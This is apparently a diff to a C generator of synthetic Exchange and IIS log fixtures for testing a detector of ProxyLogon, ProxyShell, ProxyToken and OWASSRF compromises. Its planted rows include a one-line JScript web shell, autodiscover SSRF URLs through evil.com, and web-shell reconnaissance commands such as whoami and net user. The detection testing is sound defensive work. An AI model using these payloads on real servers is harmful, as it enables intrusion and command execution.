@@ -8,6 +8,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <time.h>
 
 /*
  * mklogs DIR             fixture tree under DIR (Windows layout below
@@ -16,6 +17,13 @@
  * mklogs --size N FILE   one big HttpProxy log of N bytes (suffix K M G)
  *                        of benign rows, a few planted hits at the end;
  *                        prints "planted_findings N" and "planted_alerts N"
+ * mklogs --owa N FILE    one IIS log of N bytes of ordinary OWA/ECP/EWS/
+ *                        ActiveSync traffic (Exchange's own pages, GET and
+ *                        POST, 2xx) with 10 web-shell requests (5 GET with
+ *                        commands, 5 POST) from one client to one shell,
+ *                        spread over the file; prints "planted 10"
+ * mklogs --iis-hits N FILE  an IIS log with N GETs from one client to one
+ *                        shell (cmd=whoami) among benign rows
  */
 
 static const char hp_header[] =
@@ -64,6 +72,8 @@ struct gen {
 	FILE *exp;
 };
 
+static unsigned long long parse_size(const char *s);
+
 static uint64_t
 rnd(struct gen *g)
 {
@@ -83,18 +93,15 @@ die(const char *what)
 static void
 iso(struct gen *g, char *dst, size_t n, int space)
 {
-	int64_t s = g->t;
-	int day = (int)(s / 86400) + 1, rem = (int)(s % 86400);
+	/* g->t counts seconds from 2021-03-01T00:00:00Z. */
+	time_t s = (time_t)(1614556800 + g->t);
+	int ms = (int)(rnd(g) % 1000);
+	struct tm tm;
 
-	/* March 2021 and on into April: enough for these logs. */
-	if (day <= 31)
-		snprintf(dst, n, space ? "2021-03-%02d %02d:%02d:%02d" :
-		    "2021-03-%02dT%02d:%02d:%02d.%03dZ", day, rem / 3600,
-		    rem / 60 % 60, rem % 60, (int)(rnd(g) % 1000));
-	else
-		snprintf(dst, n, space ? "2021-04-%02d %02d:%02d:%02d" :
-		    "2021-04-%02dT%02d:%02d:%02d.%03dZ", day - 31, rem / 3600,
-		    rem / 60 % 60, rem % 60, (int)(rnd(g) % 1000));
+	gmtime_r(&s, &tm);
+	snprintf(dst, n, space ? "%04d-%02d-%02d %02d:%02d:%02d" :
+	    "%04d-%02d-%02dT%02d:%02d:%02d.%03dZ", tm.tm_year + 1900,
+	    tm.tm_mon + 1, tm.tm_mday, tm.tm_hour, tm.tm_min, tm.tm_sec, ms);
 }
 
 static void
@@ -428,6 +435,14 @@ ecp_fixture(struct gen *g, const char *dir)
 	    "DDIService.svc/SetObject?msExchEcpCanary=Xy1&schema=OABVirtual"
 	    "Directory;S:BLD=15.1.2176.2\"\n", dt);
 	expect(g, ECPLOG, lines_of(fp), "CVE-2021-27065/ecp-set-vdir");
+	/* As incident reports print it: nothing after the closing tag but
+	 * the parameter's end. */
+	iso(g, dt, sizeof(dt), 0);
+	fprintf(fp, "%s,EXCH01,1,\"S:TIME=640;S:SID=S-1-5-18;S:CMD=Set-Oab"
+	    "VirtualDirectory.ExternalUrl=''http://g/<script language=\"\""
+	    "JScript\"\" runat=\"\"server\"\">function Page_Load(){eval("
+	    "Request[\"\"code\"\"],\"\"unsafe\"\");}</script>''\"\n", dt);
+	expect(g, ECPLOG, lines_of(fp), "CVE-2021-27065/ecp-set-vdir");
 	iso(g, dt, sizeof(dt), 0);
 	fprintf(fp, "%s,EXCH01,1,\"S:TIME=90;S:SID=S-1-5-18;S:CMD=Set-Oab"
 	    "VirtualDirectory.ExternalUrl=$null.Identity=''3a1b7c2e'';S:URL="
@@ -576,7 +591,7 @@ iis_fixture(struct gen *g, const char *dir)
 	iis_benign(g, fp, 20);
 	plant_iis(g, fp, "POST", "/aspnet_client/system_web/kA9xQ2mZ.aspx",
 	    NULL, NULL, "139.162.202.236", "antSword/v2.1", 200,
-	    "ProxyLogon/iis-webshell-request", "ProxyLogon/iis-user-agent",
+	    "iis/webshell-use", "ProxyLogon/iis-user-agent",
 	    "iis/attacker-ip");
 	expect(g, IISLOG, lines_of(fp), "iis/flagged-file-request");
 	plant_iis(g, fp, "GET", "/autodiscover/autodiscover.json",
@@ -591,7 +606,28 @@ iis_fixture(struct gen *g, const char *dir)
 	    "@evil.com/PowerShell?serializationLevel=Full;ExchClientVer=15.2"
 	    "&Email=autodiscover/autodiscover.json%3F@evil.com", "CONTOSO\\"
 	    "user042", "198.51.100.7", "python-requests/2.28.1", 200,
-	    "ProxyShell/autodiscover", "ProxyNotShell/autodiscover", NULL);
+	    "ProxyNotShell/autodiscover", NULL, NULL);
+	/* ProxyShell's PowerShell stage: no user, the X-Rps-CAT token. */
+	plant_iis(g, fp, "POST", "/autodiscover/autodiscover.json",
+	    "@evil.com/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9z"
+	    "TBJhZG1pbmlzdHJhdG9yQGNvbnRvc28ubG9jYWxVLFMtMS01LTIxLTEtMi0zLTUw"
+	    "MEUAAAAAAA%3d%3d&Email=autodiscover/autodiscover.json%3F@evil.com",
+	    NULL, "198.51.100.10", "python-requests/2.26.0", 200,
+	    "ProxyShell/autodiscover", NULL, NULL);
+	/* Web-shell use by GET, and Exchange's own pages beside it. */
+	plant_iis(g, fp, "GET", "/owa/auth/errorEEE.aspx", "cmd=whoami",
+	    NULL, "198.51.100.11", "python-requests/2.25.1", 200,
+	    "iis/webshell-use", NULL, NULL);
+	plant_iis(g, fp, "POST", "/owa/auth/logon.aspx", "replaceCurrent=1&"
+	    "url=https%3a%2f%2fmail.contoso.com%2fowa%2f", NULL, NULL, NULL,
+	    200, NULL, NULL, NULL);
+	plant_iis(g, fp, "GET", "/owa/auth/expiredpassword.aspx", "url=/owa/",
+	    "CONTOSO\\user042", NULL, NULL, 200, NULL, NULL, NULL);
+	/* ProxyToken: an inbox rule on another mailbox, answered 500. */
+	plant_iis(g, fp, "POST", "/ecp/victim%40contoso.com/RulesEditor/"
+	    "InboxRules.svc/NewObject", "SecurityToken=ZXhhbXBsZQ", NULL,
+	    "198.51.100.12", "python-requests/2.26.0", 500,
+	    "CVE-2021-33766/proxytoken", NULL, NULL);
 	plant_iis(g, fp, "POST", "/owa/mastermailbox%40outlook.com/powershell",
 	    NULL, "CONTOSO\\user042", "198.51.100.8", "python-requests/2.28.1",
 	    200, "OWASSRF/owa-powershell", NULL, NULL);
@@ -633,6 +669,135 @@ rps_fixture(struct gen *g, const char *dir)
 	    "2.28.1,77\n", dt, dt);
 	expect(g, RPSLOG, lines_of(fp), "rps-http/client-info");
 	fclose(fp);
+}
+
+/* Ordinary traffic of an Exchange server: Exchange's own pages only. */
+static const struct owa_req {
+	const char *method, *stem, *query;
+	int status;
+} owa_reqs[] = {
+	{ "GET", "/owa/auth/logon.aspx", "url=https%3a%2f%2fmail.contoso.com"
+	    "%2fowa%2f&reason=0", 200 },
+	{ "POST", "/owa/auth/logon.aspx", "replaceCurrent=1&url=https%3a%2f%2f"
+	    "mail.contoso.com%2fowa%2f", 200 },
+	{ "POST", "/owa/auth.owa", NULL, 302 },
+	{ "GET", "/owa/", NULL, 200 },
+	{ "POST", "/owa/service.svc", "action=GetItem&EP=1&ID=-34&AC=1", 200 },
+	{ "POST", "/owa/sessiondata.ashx", "appcacheclient=0", 200 },
+	{ "POST", "/owa/plt1.ashx", NULL, 200 },
+	{ "GET", "/owa/auth/logoff.aspx", "Cmd=logoff&src=exch", 200 },
+	{ "GET", "/owa/auth/expiredpassword.aspx", "url=/owa/", 200 },
+	{ "GET", "/owa/auth/errorFE.aspx", "httpCode=500", 200 },
+	{ "GET", "/owa/auth/signout.aspx", NULL, 200 },
+	{ "POST", "/EWS/Exchange.asmx", NULL, 200 },
+	{ "POST", "/ews/exchange.asmx", NULL, 200 },
+	{ "GET", "/ecp/default.aspx", NULL, 200 },
+	{ "GET", "/ecp/PersonalSettings/HomePage.aspx", "showhelp=false", 200 },
+	{ "POST", "/ecp/DDI/DDIService.svc/GetList", "schema=Mailbox"
+	    "CalendarConfiguration&msExchEcpCanary=AbCdEfGhIjKlMnOpQrStUv."
+	    "0123456789", 200 },
+	{ "GET", "/ecp/auth/TimeoutLogout.aspx", "ru=%2fecp%2f", 200 },
+	{ "POST", "/Microsoft-Server-ActiveSync/default.eas", "Cmd=Sync&User="
+	    "user042&DeviceId=ABCDEF0123456789&DeviceType=iPhone", 200 },
+	{ "POST", "/Microsoft-Server-ActiveSync/default.eas", "Cmd=Ping&User="
+	    "user042&DeviceId=ABCDEF0123456789&DeviceType=iPhone", 200 },
+	{ "POST", "/mapi/emsmdb/", "mailboxId=3a1b7c2e-1111-2222-3333-"
+	    "444455556666@contoso.com", 200 },
+	{ "RPC_IN_DATA", "/rpc/rpcproxy.dll", "exch01.contoso.local:6001", 200 },
+	{ "POST", "/autodiscover/autodiscover.xml", NULL, 200 },
+	{ "GET", "/OAB/3a1b7c2e-1111-2222-3333-444455556666/oab.xml", NULL,
+	    200 },
+	{ "GET", "/owa/auth/15.1.2176/themes/resources/favicon.ico", NULL,
+	    200 },
+	{ "GET", "/wp-login.php", NULL, 404 },
+	{ "GET", "/owa/auth/x.aspx", NULL, 404 },
+};
+
+static const char *const shell_get[5] = { "cmd=whoami", "cmd=ipconfig+%2fall",
+	"cmd=net+user", "cmd=cmd.exe+%2fc+dir+c%3a%5c", "cmd=tasklist" };
+
+static void
+owa_rows(struct gen *g, FILE *fp, int n)
+{
+	const size_t nr = sizeof(owa_reqs) / sizeof(owa_reqs[0]);
+	int i;
+
+	for (i = 0; i < n; i++) {
+		const struct owa_req *r = &owa_reqs[rnd(g) % nr];
+
+		iis_row(g, fp, r->method, r->stem, r->query, "CONTOSO\\user042",
+		    NULL, NULL, r->status);
+	}
+}
+
+static FILE *
+iis_big_open(const char *path, char *obuf, size_t nbuf)
+{
+	FILE *fp;
+
+	if ((fp = fopen(path, "w")) == NULL)
+		die(path);
+	setvbuf(fp, obuf, _IOFBF, nbuf);
+	fprintf(fp, "#Software: Microsoft Internet Information Services 10.0\n"
+	    "#Version: 1.0\n#Date: 2021-03-03 00:00:00\n#Fields: %s\n",
+	    iis_fields);
+	return fp;
+}
+
+static int
+owa(const char *size, const char *path)
+{
+	static char obuf[1 << 20];
+	struct gen g = { .rng = 0x853c49e6748fea9bULL };
+	unsigned long long want = parse_size(size), step;
+	FILE *fp;
+	int k;
+
+	if (want == 0) {
+		fprintf(stderr, "mklogs: bad size '%s'\n", size);
+		return 2;
+	}
+	fp = iis_big_open(path, obuf, sizeof(obuf));
+	g.t = 2 * 86400;
+	step = want / 11;
+	for (k = 0; k < 10; k++) {
+		while ((unsigned long long)ftello(fp) < step * (unsigned)(k + 1))
+			owa_rows(&g, fp, 64);
+		iis_row(&g, fp, k < 5 ? "GET" : "POST",
+		    "/aspnet_client/discover.aspx", k < 5 ? shell_get[k] : NULL,
+		    NULL, "203.0.113.50", "python-requests/2.25.1", 200);
+	}
+	while ((unsigned long long)ftello(fp) + 4096 < want)
+		owa_rows(&g, fp, 16);
+	if (fclose(fp) != 0)
+		die(path);
+	printf("planted 10\n");
+	return 0;
+}
+
+static int
+iis_hits(const char *count, const char *path)
+{
+	static char obuf[1 << 20];
+	struct gen g = { .rng = 0x94d049bb133111ebULL };
+	long n = atol(count), i;
+	FILE *fp;
+
+	if (n <= 0) {
+		fprintf(stderr, "mklogs: bad count '%s'\n", count);
+		return 2;
+	}
+	fp = iis_big_open(path, obuf, sizeof(obuf));
+	g.t = 2 * 86400;
+	owa_rows(&g, fp, 50);
+	for (i = 0; i < n; i++)
+		iis_row(&g, fp, "GET", "/owa/auth/errorEEE.aspx", "cmd=whoami",
+		    NULL, "198.51.100.23", "python-requests/2.25.1", 200);
+	owa_rows(&g, fp, 50);
+	if (fclose(fp) != 0)
+		die(path);
+	printf("planted %ld\n", n);
+	return 0;
 }
 
 static unsigned long long
@@ -694,8 +859,9 @@ big(const char *size, const char *path)
 	}
 	if (fclose(fp) != 0)
 		die(path);
-	/* 3 + 4 + 2 findings; alerts: test-proxylogon twice, reset once. */
-	printf("rows %ld\nplanted_findings 9\nplanted_alerts 3\n", rows + 6);
+	/* 3 + 4 + 2 hits, all from one client on one URI: one finding per
+	 * check (findings/group.c); alerts: test-proxylogon and reset. */
+	printf("rows %ld\nplanted_findings 4\nplanted_alerts 2\n", rows + 6);
 	return 0;
 }
 
@@ -707,8 +873,13 @@ main(int argc, char **argv)
 
 	if (argc == 4 && strcmp(argv[1], "--size") == 0)
 		return big(argv[2], argv[3]);
+	if (argc == 4 && strcmp(argv[1], "--owa") == 0)
+		return owa(argv[2], argv[3]);
+	if (argc == 4 && strcmp(argv[1], "--iis-hits") == 0)
+		return iis_hits(argv[2], argv[3]);
 	if (argc != 2) {
-		fprintf(stderr, "usage: mklogs DIR | mklogs --size N FILE\n");
+		fprintf(stderr, "usage: mklogs DIR | mklogs --size N FILE | "
+		    "mklogs --owa N FILE | mklogs --iis-hits N FILE\n");
 		return 2;
 	}
 	if (mkdir(argv[1], 0755) != 0 && errno != EEXIST)
